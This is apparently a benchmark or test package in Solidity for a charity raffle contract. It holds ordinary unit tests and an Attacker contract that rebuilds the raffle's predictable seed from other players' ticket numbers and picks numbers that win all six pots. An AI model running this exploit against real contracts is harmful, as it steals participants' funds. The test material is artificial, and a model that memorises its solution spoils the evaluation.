// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./CharityRaffle.sol";

// assay-canary-c82da6e1-0d3c-4c50-9a2b-ce857b50ea81

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function roll(uint256 number) external;
}

contract Coin is ERC20 {
    constructor() public {
        _mint(msg.sender, 100000 ether);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CHARITY = address(0xC4A);
    uint256 private constant START = 1000;

    Coin private coin;
    CharityRaffle private raffle;
    Attacker private mallory;

    // six raffles with eleven tickets each, closing in block 1020
    function setUp() public {
        vm.roll(START);
        coin = new Coin();
        raffle = new CharityRaffle(coin, CHARITY);
        coin.transfer(ANA, 20000 ether);
        coin.transfer(BEN, 20000 ether);
        vm.prank(ANA);
        coin.approve(address(raffle), 20000 ether);
        vm.prank(BEN);
        coin.approve(address(raffle), 20000 ether);
        for (uint256 id = 1; id <= 6; id++) {
            raffle.open(100 ether, 20);
            fill(id, 5);
            vm.prank(ANA);
            raffle.enter(id, id);
        }
        mallory = new Attacker(raffle, coin);
        coin.transfer(address(mallory), 600 ether);
        mallory.learn();
    }

    function fill(uint256 id, uint256 each) private {
        for (uint256 i = 0; i < each; i++) {
            vm.prank(ANA);
            raffle.enter(id, i * 7 + id);
            vm.prank(BEN);
            raffle.enter(id, i * 11 + 3);
        }
    }

    function test_Regular() public {
        require(coin.balanceOf(address(raffle)) == 6600 ether, "in the pots");
        uint256 before = coin.balanceOf(ANA) + coin.balanceOf(BEN);
        vm.roll(START + 20);
        vm.prank(BEN);
        raffle.enter(1, 5);
        vm.roll(START + 21);
        raffle.draw(1);
        require(coin.balanceOf(ANA) + coin.balanceOf(BEN) == before - 100 ether + 600 ether, "one of them won");
        require(coin.balanceOf(CHARITY) == 600 ether, "and the charity");
        uint256 id = raffle.open(7, 3);
        require(id == 7 && raffle.raffleCount() == 7, "seven");
        vm.prank(ANA);
        raffle.enter(id, 0);
        vm.roll(START + 25);
        require(raffle.draw(id) == ANA, "the only ticket");
        require(coin.balanceOf(CHARITY) == 600 ether + 4, "the odd unit");
        before = coin.balanceOf(ANA);
        vm.roll(START + 20 + 251);
        raffle.cancel(2);
        require(coin.balanceOf(ANA) == before + 600 ether, "back");
        raffle.transferOwnership(ANA);
        vm.prank(ANA);
        raffle.renounceOwnership();
    }

    function test_RefusesTerms() public {
        vm.expectRevert("charity is missing");
        new CharityRaffle(coin, address(0));
        vm.expectRevert("terms are incomplete");
        raffle.open(0, 1);
        vm.expectRevert("terms are incomplete");
        raffle.open(1, 0);
        vm.expectRevert("SafeMath: addition overflow");
        raffle.open(1, uint256(-1));
        vm.prank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        raffle.open(1, 1);
    }

    function test_RefusesTickets() public {
        fill(1, 19);
        vm.startPrank(ANA);
        raffle.enter(1, 1);
        vm.expectRevert("tickets are sold out");
        raffle.enter(1, 1);
        vm.roll(START + 21);
        vm.expectRevert("raffle is not open");
        raffle.enter(2, 1);
        vm.stopPrank();
    }

    function test_RefusesDraws() public {
        vm.roll(START + 20);
        vm.expectRevert("raffle is not closed");
        raffle.draw(1);
        vm.roll(START + 20 + 250);
        vm.expectRevert("draw is possible");
        raffle.cancel(1);
        raffle.draw(1);
        vm.roll(START + 20 + 251);
        vm.expectRevert("draw is too late");
        raffle.draw(2);
    }

    function exploit() public {
        vm.roll(START + 20);
        mallory.enter();
        vm.roll(START + 21);
        mallory.draw();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 3600 ether, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(coin);
    }

    function target() public view returns (address) {
        return address(raffle);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CharityRaffle private raffle;
    bytes32[7] private seeds;

    constructor(CharityRaffle raffle_, IERC20 coin_) public {
        raffle = raffle_;
        coin_.approve(address(raffle_), uint256(-1));
    }

    // the numbers of the others, from their events
    function learn() external {
        for (uint256 id = 1; id <= 6; id++) {
            bytes32 seed;
            for (uint256 i = 0; i < 5; i++) {
                seed = keccak256(abi.encodePacked(seed, i * 7 + id));
                seed = keccak256(abi.encodePacked(seed, i * 11 + 3));
            }
            seeds[id] = keccak256(abi.encodePacked(seed, id));
        }
    }

    // a number for each raffle with which the last of twelve tickets wins
    function enter() external {
        for (uint256 id = 1; id <= 6; id++) {
            uint256 number = 0;
            while (result(seeds[id], number) != 11) number++;
            raffle.enter(id, number);
        }
    }

    function result(bytes32 seed, uint256 number) private pure returns (uint256) {
        seed = keccak256(abi.encodePacked(seed, number));
        return uint256(keccak256(abi.encodePacked(seed, uint256(1020), uint256(12)))) % 12;
    }

    function draw() external {
        for (uint256 id = 1; id <= 6; id++) raffle.draw(id);
    }
}
